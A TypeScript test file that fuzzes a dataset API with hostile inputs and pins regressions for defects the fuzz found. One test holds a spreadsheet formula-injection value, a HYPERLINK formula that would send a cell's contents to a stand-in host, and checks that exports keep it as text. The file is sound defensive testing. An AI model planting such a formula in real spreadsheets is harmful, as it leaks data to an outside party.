import fc from 'fast-check';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Store } from '../store/connect.js';
import { testStores } from '../store/testing.js';
import { rawRequest } from './fuzz-http.js';
import { SURFACES } from './fuzz-surfaces.js';
import { newTally, runCase, setUpWorld, tallyLine, type FuzzWorld, type Tally } from './fuzz-world.js';
import { startServer, type TestServer } from './testing.js';

/**
 * 恶意输入: property-based tests over every input surface of the API (bodies, documents, path ids and queries, headers,
 * YAML/JSON and workbook uploads, file names), as anonymous, editor, reviewer and administrator. Every request gets a
 * 2xx, or a 4xx with `{error, message}` — never a 5xx, a hang or a dropped connection — and a refused request changes
 * no stored data. One to two hundred cases per surface here (half of what it was: the whole `npm test` has five minutes
 * on two cores, issue 15), ten thousand in `npm run bench:fuzz`. JIXIAO_FUZZ_SEED=n replays another seed (the default
 * is fixed, so a run is reproducible).
 */
const RUNS: Readonly<Record<string, number>> = {
  'json-bodies': 200,
  documents: 125,
  'paths-queries': 250,
  headers: 200,
  'import-text': 125,
  'import-xlsx': 100,
  'file-names': 100,
};
/**
 * Per surface. Each normally ends within a tenth of it; on a machine so busy that it has not by a quarter of it, the
 * remaining cases are skipped (fast-check's own interruption would leave a request running into the next test).
 */
const TIMEOUT_MS = 400_000;
const BUDGET_MS = TIMEOUT_MS / 4;
const SEED = Number(process.env['JIXIAO_FUZZ_SEED'] ?? '20240614');

describe.each(testStores())('hostile input on $dialect', ({ dialect, open }) => {
  let store: Store;
  let server: TestServer;
  let world: FuzzWorld;
  const tallies: Tally[] = [];

  beforeAll(async () => {
    store = await open();
    server = await startServer(store);
    world = await setUpWorld(server);
  }, 120_000);
  afterAll(async () => {
    console.log(`hostile input on ${dialect} (seed ${SEED}):\n${tallies.map(tallyLine).join('\n')}`);
    await server.close();
    await store.close();
  });

  for (const surface of SURFACES) {
    it(
      `${surface.name}: answers 2xx or 4xx with {error, message}, never 5xx, and a refusal changes nothing`,
      { timeout: TIMEOUT_MS },
      async () => {
        const tally = newTally(surface.name);
        tallies.push(tally);
        const started = performance.now();
        const cases = await surface.cases(world);
        await fc.assert(
          fc.asyncProperty(cases, async (c) => {
            if (performance.now() - started > BUDGET_MS) return;
            const problems = await runCase(world, surface.name, c, { timeoutMs: 20_000, tally });
            if (problems.length > 0) throw new Error(problems.join('\n'));
          }),
          { numRuns: RUNS[surface.name] ?? 200, seed: SEED },
        );
        tally.ms = performance.now() - started;
      },
    );
  }
});

/**
 * Defects the fuzz found, each with its own test (written as `it.fails` while the defect was there; plain tests
 * since it was fixed).
 */
describe.each(testStores())('defects found by the fuzz, on $dialect', ({ open }) => {
  let store: Store;
  let server: TestServer;
  let world: FuzzWorld;
  beforeAll(async () => {
    store = await open();
    server = await startServer(store);
    world = await setUpWorld(server);
  }, 120_000);
  afterAll(async () => {
    await server.close();
    await store.close();
  });

  it(
    'answers an Expect header other than 100-continue with 417 and {error, message}',
    { timeout: 30_000 },
    async () => {
      const answer = await rawRequest(
        world.port,
        { method: 'GET', path: '/api/health', headers: [['Expect', 'something-else']] },
        10_000,
      );
      expect(answer).toMatchObject({ kind: 'answer', status: 417 });
      const body = answer.kind === 'answer' ? answer.body.toString() : '';
      const parsed = JSON.parse(body) as { error?: unknown; message?: unknown };
      expect([typeof parsed.error, typeof parsed.message]).toEqual(['string', 'string']);
    },
  );

  it(
    'refuses a lone surrogate in a department name with 400, as the dataset schema does',
    { timeout: 30_000 },
    async () => {
      const { departmentId } = await world.target('defects');
      const renamed = await server.call(
        'PATCH',
        `/api/departments/${departmentId}`,
        { name: '雨花\uD800局' },
        {},
        'admin',
      );
      // It used to be 200, with the name stored as U+FFFD (PostgreSQL) or three of them (SQLite): silently changed.
      expect(renamed.status).toBe(400);
    },
  );

  it(
    'exports a text that starts with = as text, never as a formula (formula injection)',
    { timeout: 60_000 },
    async () => {
      const { datasetId } = await world.target('formulas');
      const detail = await server.call('GET', `/api/datasets/${datasetId}`);
      const document = detail.body['document'] as { department: Record<string, unknown> };
      const injected = '=HYPERLINK("http://example.invalid/?"&A1,"点击")';
      const saved = await server.call('PUT', `/api/datasets/${datasetId}`, {
        baseRevision: (detail.body['latestRevision'] as { revisionNo: number }).revisionNo,
        document: { ...document, department: { ...document.department, contact: injected } },
      });
      expect(saved.status).toBe(200);
      const exported = await server.fetch(`/api/datasets/${datasetId}/export?format=xlsx`);
      expect(exported.status).toBe(200);
      const zip = await JSZip.loadAsync(Buffer.from(await exported.arrayBuffer()));
      const sheets = Object.keys(zip.files).filter((name) => name.startsWith('xl/worksheets/sheet'));
      for (const name of sheets) expect(await zip.file(name)?.async('string')).not.toMatch(/<f>[^<]*HYPERLINK/);
      // And the workbook imports back with the same text.
      const back = await server.fetch('/api/import?dryRun=true&format=xlsx', {
        method: 'POST',
        body: new Uint8Array(await (await server.fetch(`/api/datasets/${datasetId}/export?format=xlsx`)).arrayBuffer()),
      });
      const read = (await back.json()) as { document: { department: { contact?: string } } };
      expect(read.document.department.contact).toBe(injected);
    },
  );
});
